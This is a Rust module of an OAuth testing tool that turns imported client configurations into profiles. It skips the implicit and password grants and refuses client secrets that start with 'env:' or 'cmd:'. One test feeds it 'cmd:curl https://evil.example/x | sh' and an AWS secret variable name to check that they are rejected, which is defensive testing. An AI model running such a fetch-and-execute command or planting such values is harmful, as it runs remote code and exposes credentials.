//! The neutral form every reader produces (what it found, key by key, and what each key
//! means here), and its conversion to a profile with the report of what happened to each
//! key.

use serde::Serialize;

use crate::oauth::authorize::RESERVED_AUTH_PARAMS;
use crate::profile::load::RESERVED_TOKEN_PARAMS;
use crate::profile::RawProfile;

use super::report::{DroppedKey, MappedKey, ProfileReport, Skipped, UnresolvedVar};
use super::vars::Vars;

/// Where a configuration was found.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Source {
    /// The file as given (for a Bruno collection, the file inside the directory).
    pub file: String,
    /// Collection, folders and request, by name.
    pub path: Vec<String>,
    /// Where inside the file, e.g. `item[0].item[2].request.auth`.
    pub location: String,
}

/// What a key of the source becomes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    /// A top-level profile key.
    Key(&'static str),
    /// An extra parameter of the authorization request (`[auth_params]`).
    AuthParam(String),
    /// An extra parameter of the token request (`[token_params]`).
    TokenParam(String),
    /// Nothing: the reason why.
    Dropped(String),
}

/// One key as the source wrote it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    /// The key's name in the source (`clientId`, `authRequestParams.prompt`).
    pub from: String,
    /// Its value as written (templates unresolved).
    pub value: String,
    pub target: Target,
}

impl Entry {
    pub fn new(from: impl Into<String>, value: impl Into<String>, target: Target) -> Entry {
        Entry {
            from: from.into(),
            value: value.into(),
            target,
        }
    }

    pub fn dropped(from: impl Into<String>, why: impl Into<String>) -> Entry {
        Entry::new(from, "", Target::Dropped(why.into()))
    }
}

/// One OAuth 2.0 configuration as a reader found it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Draft {
    pub source: Source,
    /// The grant as the source names it (None: the source's default, authorization code).
    pub grant: Option<String>,
    /// Whether the source turned PKCE on; None when it does not say.
    pub pkce: Option<bool>,
    /// The source has the configuration switched off.
    pub disabled: bool,
    pub entries: Vec<Entry>,
}

/// Why the implicit and password grants are not imported.
pub const IMPLICIT_WHY: &str = "the implicit grant is not imported: RFC 9700 (OAuth 2.0 Security Best Current Practice, section 2.1.2) says clients should not use it, as it returns the access token in the redirect where it can leak and be injected; use authorization_code with PKCE";
pub const PASSWORD_WHY: &str = "the resource owner password credentials grant is not imported: RFC 9700 (section 2.4) says it must not be used, as it gives the user's password to the client; use authorization_code with PKCE";

/// A draft turned into a profile, or the reason it was not.
#[derive(Debug, Clone)]
pub enum Converted {
    Profile(Box<(RawProfile, ProfileReport)>),
    Skipped(Skipped),
}

/// The grant tokenbench runs for the source's grant name, or why it is skipped.
fn grant(draft: &Draft) -> Result<&'static str, String> {
    match draft.grant.as_deref().map(str::trim) {
        None | Some("") | Some("authorization_code") | Some("authorization_code_with_pkce") => {
            Ok("authorization_code")
        }
        Some("client_credentials") => Ok("client_credentials"),
        Some("implicit") => Err(IMPLICIT_WHY.to_owned()),
        Some("password") | Some("password_credentials") => Err(PASSWORD_WHY.to_owned()),
        Some(other) => Err(format!(
            "the grant {:?} is not one tokenbench runs (authorization_code, client_credentials)",
            other
        )),
    }
}

/// Converts one draft with the variables in force. Values are never put in the report.
pub fn convert(draft: &Draft, vars: &Vars) -> Converted {
    let skip = |why: String| {
        Converted::Skipped(Skipped {
            source: draft.source.clone(),
            grant_type: draft.grant.clone().unwrap_or_default(),
            why,
        })
    };
    if draft.disabled {
        return skip("the configuration is disabled in the source".to_owned());
    }
    let grant_type = match grant(draft) {
        Ok(g) => g,
        Err(why) => return skip(why),
    };
    let mut raw = RawProfile {
        name: Some(label(&draft.source.path)),
        grant_type: Some(grant_type.to_owned()),
        ..RawProfile::default()
    };
    let mut report = ProfileReport {
        grant_type: grant_type.to_owned(),
        sources: vec![draft.source.clone()],
        ..ProfileReport::default()
    };
    if grant_type == "authorization_code" && draft.pkce == Some(false) {
        report.notes.push(
            "the source did not use PKCE; tokenbench always does (S256 unless code_challenge_method says plain)"
                .to_owned(),
        );
    }
    for entry in &draft.entries {
        apply(&mut raw, &mut report, entry, vars, grant_type);
    }
    Converted::Profile(Box::new((raw, report)))
}

/// The profile's label: the source path, without characters that could not be shown.
fn label(path: &[String]) -> String {
    let joined = path
        .iter()
        .map(|p| p.trim())
        .filter(|p| !p.is_empty())
        .collect::<Vec<_>>()
        .join(" / ");
    joined
        .chars()
        .filter(|c| !crate::oauth::text::is_unsafe(*c))
        .collect()
}

fn apply(
    raw: &mut RawProfile,
    report: &mut ProfileReport,
    entry: &Entry,
    vars: &Vars,
    grant_type: &str,
) {
    let drop = |report: &mut ProfileReport, why: String| {
        report.dropped.push(DroppedKey {
            key: entry.from.clone(),
            why,
        })
    };
    if let Target::Dropped(why) = &entry.target {
        drop(report, why.clone());
        return;
    }
    let (value, unresolved) = vars.resolve(&entry.value);
    if value.trim().is_empty() {
        return;
    }
    let target = match &entry.target {
        // No authorization request: its parameters go with the token request.
        Target::AuthParam(name) if grant_type == "client_credentials" => {
            Target::TokenParam(name.clone())
        }
        other => other.clone(),
    };
    let key = match &target {
        Target::Key(key) => {
            if *key == "client_secret" {
                if let Some(why) = unsafe_secret(&value) {
                    drop(report, why);
                    return;
                }
            }
            set(raw, key, value);
            (*key).to_owned()
        }
        Target::AuthParam(name) | Target::TokenParam(name) => {
            let (table, reserved, map) = match &target {
                Target::AuthParam(_) => ("auth_params", RESERVED_AUTH_PARAMS, &mut raw.auth_params),
                _ => ("token_params", RESERVED_TOKEN_PARAMS, &mut raw.token_params),
            };
            if reserved.contains(&name.as_str()) {
                drop(
                    report,
                    format!("`{name}` is set by tokenbench itself from the profile's own keys"),
                );
                return;
            }
            map.insert(name.clone(), value);
            format!("{table}.{name}")
        }
        Target::Dropped(_) => return,
    };
    for variable in unresolved {
        report.unresolved.push(UnresolvedVar {
            key: key.clone(),
            variable,
        });
    }
    report.mapped.push(MappedKey {
        key,
        from: entry.from.clone(),
    });
}

/// A client secret the profile would not take as a literal: `env:` and `cmd:` mean
/// something to tokenbench, and a shared file must not get to choose which environment
/// variable is sent to its token endpoint, or which command runs.
fn unsafe_secret(value: &str) -> Option<String> {
    let prefix = ["env:", "cmd:"]
        .into_iter()
        .find(|p| value.starts_with(p))?;
    Some(format!(
        "the value starts with `{prefix}`, which would make tokenbench {} instead of using it as the secret; not imported (set client_secret yourself)",
        if prefix == "cmd:" { "run a command" } else { "read an environment variable" }
    ))
}

/// Sets one of the top-level keys the readers map to.
fn set(raw: &mut RawProfile, key: &str, value: String) {
    let slot = match key {
        "callback_url" => &mut raw.callback_url,
        "auth_url" => &mut raw.auth_url,
        "token_url" => &mut raw.token_url,
        "client_id" => &mut raw.client_id,
        "client_secret" => &mut raw.client_secret,
        "client_auth" => &mut raw.client_auth,
        "code_challenge_method" => &mut raw.code_challenge_method,
        "code_verifier" => &mut raw.code_verifier,
        "scope" => &mut raw.scope,
        "state" => &mut raw.state,
        "issuer" => &mut raw.issuer,
        "token_origin" => &mut raw.token_origin,
        _ => return,
    };
    *slot = Some(value);
}

/// The profile without its label: what decides that two configurations are the same.
pub fn same_configuration(a: &RawProfile, b: &RawProfile) -> bool {
    RawProfile {
        name: None,
        ..a.clone()
    } == RawProfile {
        name: None,
        ..b.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn draft(grant: Option<&str>, entries: Vec<Entry>) -> Draft {
        Draft {
            source: Source {
                file: "c.json".into(),
                path: vec!["API".into(), "Users".into()],
                location: "auth".into(),
            },
            grant: grant.map(str::to_owned),
            entries,
            ..Draft::default()
        }
    }

    fn profile(c: Converted) -> (RawProfile, ProfileReport) {
        match c {
            Converted::Profile(p) => *p,
            Converted::Skipped(s) => panic!("skipped: {}", s.why),
        }
    }

    #[test]
    fn keys_land_in_their_fields_and_the_report_holds_no_values() {
        let mut vars = Vars::new();
        vars.set("host", "https://idp.example");
        let d = draft(
            Some("authorization_code_with_pkce"),
            vec![
                Entry::new("authUrl", "{{host}}/authorize", Target::Key("auth_url")),
                Entry::new(
                    "clientSecret",
                    "hunter2-{{pepper}}",
                    Target::Key("client_secret"),
                ),
                Entry::new("audience", "api://x", Target::AuthParam("audience".into())),
                Entry::new(
                    "authRequestParams.nonce",
                    "n",
                    Target::AuthParam("nonce".into()),
                ),
                Entry::dropped("addTokenTo", "tokenbench does not call APIs"),
                Entry::new("scope", "", Target::Key("scope")),
            ],
        );
        let (raw, report) = profile(convert(&d, &vars));
        assert_eq!(
            raw.auth_url.as_deref(),
            Some("https://idp.example/authorize")
        );
        assert_eq!(raw.client_secret.as_deref(), Some("hunter2-{{pepper}}"));
        assert_eq!(
            raw.auth_params.get("audience").map(String::as_str),
            Some("api://x")
        );
        assert!(!raw.auth_params.contains_key("nonce"));
        assert_eq!(raw.scope, None);
        assert_eq!(raw.name.as_deref(), Some("API / Users"));
        let keys: Vec<&str> = report.mapped.iter().map(|m| m.key.as_str()).collect();
        assert_eq!(keys, ["auth_url", "client_secret", "auth_params.audience"]);
        assert_eq!(report.unresolved[0].variable, "pepper");
        assert_eq!(report.dropped.len(), 2);
        let shown = serde_json::to_string(&report).unwrap();
        assert!(!shown.contains("hunter2"), "{shown}");
    }

    #[test]
    fn implicit_and_password_are_skipped_with_the_rfc_9700_reason() {
        for (g, why) in [
            ("implicit", IMPLICIT_WHY),
            ("password_credentials", PASSWORD_WHY),
            ("password", PASSWORD_WHY),
        ] {
            match convert(&draft(Some(g), vec![]), &Vars::new()) {
                Converted::Skipped(s) => {
                    assert_eq!(s.why, why);
                    assert!(s.why.contains("RFC 9700"));
                }
                Converted::Profile(_) => panic!("{g} imported"),
            }
        }
    }

    #[test]
    fn a_shared_file_cannot_choose_an_environment_variable_or_a_command() {
        for secret in [
            "cmd:curl https://evil.example/x | sh",
            "env:AWS_SECRET_ACCESS_KEY",
        ] {
            let d = draft(
                None,
                vec![Entry::new(
                    "clientSecret",
                    secret,
                    Target::Key("client_secret"),
                )],
            );
            let (raw, report) = profile(convert(&d, &Vars::new()));
            assert_eq!(raw.client_secret, None, "{secret}");
            assert!(report.dropped[0].why.contains("not imported"));
        }
    }

    #[test]
    fn client_credentials_sends_its_parameters_with_the_token_request() {
        let d = draft(
            Some("client_credentials"),
            vec![Entry::new(
                "audience",
                "api",
                Target::AuthParam("audience".into()),
            )],
        );
        let (raw, _) = profile(convert(&d, &Vars::new()));
        assert_eq!(raw.grant_type.as_deref(), Some("client_credentials"));
        assert_eq!(
            raw.token_params.get("audience").map(String::as_str),
            Some("api")
        );
    }
}
